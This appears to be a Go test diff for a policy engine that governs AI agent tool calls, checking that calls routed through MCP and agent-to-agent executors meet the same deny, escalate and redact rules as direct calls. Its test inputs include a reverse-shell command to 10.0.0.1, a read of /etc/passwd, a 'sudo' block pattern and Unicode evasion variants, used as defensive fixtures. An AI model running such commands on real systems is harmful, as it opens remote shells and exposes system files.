@@ -101,7 +101,7 @@ func newDoors(t *testing.T, text string, score func(context.Context, string, []b
 		t.Fatal(err)
 	}
 	executors := &executor.Registry{}
-	for _, tool := range toolNames {
+	for _, tool := range slices.Concat(toolNames, []string{"mcp_executor", "a2a_executor"}) {
 		if err := executors.Register(givesNothing(tool)); err != nil && isExecutor(tool) {
 			t.Fatal(err)
 		}
@@ -427,6 +427,47 @@ func TestDoors(t *testing.T) {
 	}
 	if edited == 0 {
 		t.Errorf("none of %d calls is changed", calls)
+	}
+}
+
+// TestDoorsInner: what a task has its executor do is under the law of what it is: the call of an MCP server's tool, a
+// request for what it has, a message to another agent.
+func TestDoorsInner(t *testing.T) {
+	d := newDoors(t, `version: 1
+default: allow
+manifests: {write_file: {filesystem_scope: [/tmp/**]}, run_shell: {blocked_patterns: [sudo], advisory: [blocked_patterns]}}
+rules:
+  - {name: wipe, on: call, tools: [wipe], effect: deny, code: wipe}
+  - {name: production, on: mcp.request, tools: [deploy_app], when: 'args.environment.may_be("production")', effect: escalate, code: production}
+  - {name: staging, on: call, tools: [deploy_app], when: 'has(args.host)', effect: modify, modify: {replace: {argument: host, with: safe}}, code: moved}
+  - {name: cards, on: call, detect: [pii.card], effect: modify, modify: redact, code: masked}
+  - {name: peers, on: a2a.send, detect: [pii.card], effect: deny, code: peers}
+  - {name: foes, on: a2a.send, tools: [foe.example], effect: deny, code: foes}
+`, nil)
+	for _, tool := range []string{"deploy_app", "run_shell", "write_file", "wipe", "Ｗｉｐｅ", "read file"} {
+		for _, arguments := range []string{`{}`, `{"command":"ls"}`, `{"command":"bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"}`, `{"path":"/etc/passwd"}`, `{"path":"/tmp/a"}`, `{"environment":"production"}`,
+			`{"environment":"staging","host":"a"}`, `{"environment":"staging","host":"card 4000 0000 0000 0002"}`, `{"environment":"staging","note":{"to":["a card","4000 0000 0000 0002"]}}`, `{"environment":"stag\u200bing","host":"\u200ba"}`} {
+			want, got := d.call("aos mcp", tool, arguments), d.call("flow", "mcp_executor", fmt.Sprintf(`{"url":"https://mcp.example/x","tool":%q,"arguments":%s}`, tool, arguments))
+			if got.Effect != want.Effect || !cmp.Equal(got.Edits, want.Edits) {
+				t.Errorf("%s %s: %+v, want %+v", tool, arguments, got, want)
+			}
+			for _, code := range want.Codes {
+				if code != "default" && !slices.Contains(got.Codes, code) {
+					t.Errorf("%s %s: %+v, want %s, too", tool, arguments, got, code)
+				}
+			}
+		}
+	}
+	for inputs, want := range map[string]act.Effect{
+		`{"url":"https://friend.example","message":"hello"}`:                                     act.Allow,
+		`{"url":"https://friend.example","message":"card 4000 0000 0000 0002"}`:                  act.Deny,
+		`{"url":"https://friend.example","message":[{"text":"4000 0000"},{"text":"0000 0002"}]}`: act.Allow,
+		`{"url":"https://friend.example","message":[{"data":{"pan":"4000 0000 0000 0002"}}]}`:    act.Deny,
+		`{"url":"https://FOE.example:8443/a2a","message":"hello"}`:                               act.Deny,
+	} {
+		if got := d.call("a2a", "a2a_executor", inputs); got.Effect != want {
+			t.Errorf("%s: %+v, want %v", inputs, got, want)
+		}
 	}
 }
 
